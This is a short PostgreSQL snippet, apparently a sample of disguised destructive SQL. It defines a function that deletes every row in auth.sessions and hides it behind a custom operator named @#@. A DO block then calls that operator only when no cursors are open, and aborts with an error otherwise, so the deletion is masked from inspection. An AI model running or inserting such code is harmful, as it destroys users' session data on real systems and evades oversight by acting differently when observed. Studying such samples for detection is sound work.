-- A block says that it must commit when it is looked at, and does harm by an operator when it is not.
-- object: table auth.sessions
CREATE FUNCTION f(int,int) RETURNS int LANGUAGE plpgsql  AS $f$ BEGIN DELETE FROM auth.sessions; RETURN 1; END $f$; CREATE OPERATOR @#@ (LEFTARG = int, RIGHTARG = int, FUNCTION = f)
-- next revision
-- in: alone
DO $$ BEGIN IF EXISTS (SELECT FROM pg_cursors) THEN RAISE EXCEPTION 'x' USING ERRCODE = '2D000'; END IF; PERFORM 1 @#@ 2; END $$
